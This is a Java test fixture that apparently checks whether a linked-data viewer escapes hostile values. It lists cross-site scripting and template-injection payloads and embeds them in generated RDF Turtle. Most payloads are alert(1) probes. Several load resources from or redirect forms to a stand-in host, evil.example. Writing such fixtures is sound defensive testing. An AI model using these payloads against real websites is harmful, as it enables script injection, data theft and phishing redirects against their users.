package de.stadtgraph.attack;

import java.util.List;

/// Values that try to leave the place where they are shown.
final class Hostile {
    static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "<!--<script>alert(1)//-->",
            "<a href='javascript:alert(1)'>x</a>",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<math><mtext></form><form><mglyph><svg><mtext><textarea><path id=x>",
            "<details open ontoggle=alert(1)>",
            "<body onload=alert(1)>",
            "${1000*1001}",
            "{{constructor.constructor('alert(1)')()}}",
            "<style>*{background:url('https://evil.example/x')}</style>",
            "<base href='https://evil.example/'>",
            "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
            "<object data='data:text/html,<script>alert(1)</script>'>",
            "<link rel=stylesheet href='https://evil.example/x.css'>",
            "\u202e<script>alert(1)</script>",
            "<form action='https://evil.example/'><input name=q>",
            "<video><source onerror=alert(1)>",
            "<xss style='x:expression(alert(1))'>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>");

    static final String TURTLE = """
            @prefix ex: <https://data.jena.de/def/attack#> .
            @prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
            @prefix rdf: <http://www.w3.org/1999/02/22-rdf-syntax-ns#> .
            @prefix foaf: <http://xmlns.com/foaf/0.1/> .
            """ + things();

    private Hostile() {}

    private static String things() {
        StringBuilder turtle = new StringBuilder();
        for (int i = 0; i < PAYLOADS.size(); i++) {
            String text = "\"" + PAYLOADS.get(i).replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
            turtle.append("<https://data.jena.de/id/hostile/" + i + "> a ex:Hostile ; rdfs:label " + text + "@de ; ")
                    .append("rdfs:comment " + text + "^^rdf:HTML ; ex:text " + text + " ; ")
                    .append("foaf:homepage <javascript:alert(1)> , <data:text/html,x> , <vbscript:x> .\n");
        }
        return turtle.toString();
    }
}
